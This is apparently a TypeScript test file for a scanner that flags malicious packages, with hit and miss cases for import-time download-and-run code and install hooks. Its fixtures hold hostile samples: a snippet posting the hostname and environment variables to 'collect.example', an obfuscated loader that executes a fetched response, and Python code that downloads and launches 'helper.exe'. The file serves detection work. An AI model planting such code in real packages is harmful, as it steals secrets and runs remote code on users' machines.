// Packages whose hooks run what is in them.
import type { FileFacts } from '../../../src/file/facts.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'
import { fileFacts } from '../empty-facts.ts'
import { type FactCases, scripted } from './case.ts'

function member(name: string, given: Partial<FileFacts>): FileFacts {
  return fileFacts({ name, path: `p.tgz/${name}`, depth: 1, relation: 'archive_member', ...given })
}
function manifest(command: string): FileFacts {
  return member('package/package.json', {
    automation: {
      kind: 'package_manifest',
      isUnasked: true,
      commands: [{ when: 'scripts.preinstall', text: command }],
      script: readScript(command, 'shell').facts,
    },
  })
}
const THEFT =
  'const o = { h: os.hostname(), e: process.env }; https.request({ hostname: "collect.example", method: "POST" }).end(JSON.stringify(o))'
const theft = (name: string): FileFacts => member(name, scripted('javascript', THEFT))

const table = (...words: readonly string[]): string =>
  `var _0x4f1a=${JSON.stringify(words.map((one) => Buffer.from(one).toString('base64')))};function _0x1c3b(_0x2d){_0x2d=_0x2d-0x0;return Buffer.from(_0x4f1a[_0x2d],'base64').toString();}\n`
const DISGUISED = `${table('child_process', 'exec', 'https', 'request', 'hostname')}const h=require(_0x1c3b('0x2')),c=require(_0x1c3b('0x0'));h[_0x1c3b('0x3')](u,{method:'POST'},_0xe=>{let _0xf='';_0xe.on('data',_0x10=>_0xf+=_0x10);_0xe.on('end',()=>{c[_0x1c3b('0x1')](_0xf,{windowsHide:!0x0})})}).end();`

/** Modules of a source distribution. */
const module = (name: string, ...lines: readonly string[]): FileFacts =>
  fileFacts({
    name,
    path: `pack-1.0.tar.gz/pack-1.0.tar/pack-1.0/pack/${name}`,
    depth: 2,
    relation: 'archive_member',
    ...scripted('python', lines.join('\n')),
  })
const FETCHES = [
  'import os, subprocess, urllib.request',
  'def get(url, name):',
  '    path = os.path.join(os.getenv("APPDATA"), name)',
  '    urllib.request.urlretrieve(url, path)',
  '    return path',
]
const STARTS = [
  'def ready():',
  '    path = get("https://files.example/a/helper.exe", "helper.exe")',
  '    subprocess.Popen([path])',
]

export const PACKAGES: FactCases = {
  package_starts_fetched_program: {
    hits: {
      'as it is imported': module('__init__.py', ...FETCHES, ...STARTS, 'ready()'),
      'in a thread': module('core.py', ...FETCHES, ...STARTS, 'threading.Thread(target=ready).start()'),
      'by a function that is told where to put it': module(
        '__init__.py',
        'import os, requests, subprocess',
        'def save(url, to):',
        '    with open(to, "wb") as file:',
        '        file.write(requests.get(url).content)',
        'place = os.path.join(os.getenv("APPDATA"), "helper.exe")',
        'save("https://files.example/a/helper.exe", place)',
        'subprocess.run([place], check=True)',
      ),
      'as what decorates a function': module(
        '__init__.py',
        ...FETCHES,
        'def tool(wrapped):',
        '    subprocess.Popen([get("https://files.example/a/helper.exe", "helper.exe")])',
        '    return wrapped',
        '@tool',
        'def version(): return "1.0"',
      ),
      'under a guard that holds for any name': module(
        'core.py',
        ...FETCHES,
        ...STARTS,
        'if __name__ == "core" or __name__ == "x.core":',
        '    ready()',
      ),
      'by the command that fetches it': module(
        '__init__.py',
        'import os',
        'os.system("curl -s https://files.example/helper.exe -o /tmp/helper\\n/tmp/helper")',
      ),
      'by a tool of the system': module(
        '__init__.py',
        'import os, subprocess',
        'place = os.environ["TEMP"] + "\\\\helper.exe"',
        'subprocess.call(["curl.exe", "https://files.example/helper.exe", "-o", place])',
        'os.system(place)',
      ),
    },
    misses: {
      'a file alone': fileFacts(scripted('python', [...FETCHES, ...STARTS, 'ready()'].join('\n'))),
      'a tool of a project, when it is started itself and tells no program': module(
        'tool.py',
        ...FETCHES,
        'def ready(url):',
        '    subprocess.Popen([get(url, "tool")])',
        'if __name__ == "__main__":',
        '    ready("https://files.example/tool")',
      ),
      'what wraps a function, and fetches when that is called': module(
        'tool.py',
        ...FETCHES,
        'def needs_tool(wrapped):',
        '    def wrapper(*given):',
        '        subprocess.Popen([get("https://files.example/tool", "tool")])',
        '        return wrapped(*given)',
        '    return wrapper',
        '@needs_tool',
        'def version(): return "1.0"',
      ),
      'a tool that is started itself, with what it is told': module(
        'tool.py',
        'import sys',
        ...FETCHES,
        'def ready(url):',
        '    subprocess.Popen([get(url, "tool")])',
        'if __name__ == "__main__" and len(sys.argv) > 1:',
        '    ready("https://files.example/tool")',
      ),
      'a site that tells its own name': module(
        'site.py',
        'from flask import Flask',
        ...FETCHES,
        'app = Flask(__name__, static_folder="pages")',
        'def ready(url):',
        '    subprocess.Popen([get(url, "tool")])',
        'if __name__ == "__main__":',
        '    ready("https://files.example/tool")',
      ),
      'a command over several lines that only fetches': module(
        '__init__.py',
        'import subprocess',
        'subprocess.check_call([',
        '    "curl", "https://files.example/helper.exe",',
        '    "-o", "/tmp/helper",',
        '])',
      ),
      'what was fetched is only kept': module('__init__.py', ...FETCHES, 'get("https://files.example/a.exe", "a.exe")'),
      'what is started was there': module(
        '__init__.py',
        ...FETCHES,
        'get("https://files.example/model.bin", "model.bin")',
        'subprocess.run(["git", "--version"])',
      ),
    },
  },
  package_hook_runs_attack: {
    hits: {
      'a file beside the manifest': { children: [manifest('node setup.js'), theft('package/setup.js')] },
      'a file that nobody can read': {
        children: [manifest('node setup.js'), member('package/setup.js', scripted('javascript', DISGUISED))],
      },
      'in a folder': { children: [manifest('node ./scripts/post.js'), theft('package/scripts/post.js')] },
    },
    misses: {
      'a file that no hook names': { children: [manifest('node build.js'), theft('package/setup.js')] },
      'a file that nobody can read and that only computes': {
        children: [
          manifest('node setup.js'),
          member(
            'package/setup.js',
            scripted(
              'javascript',
              `${table('floor', 'random', 'round')}console.log(Math[_0x1c3b('0x0')](Math[_0x1c3b('0x1')]()*10))`,
            ),
          ),
        ],
      },
      'a hook that builds': {
        children: [
          manifest('node build.js'),
          member('package/build.js', scripted('javascript', 'require("esbuild").buildSync({})')),
        ],
      },
      'a file of another package': { children: [manifest('node setup.js'), theft('other/setup.js')] },
    },
  },
}
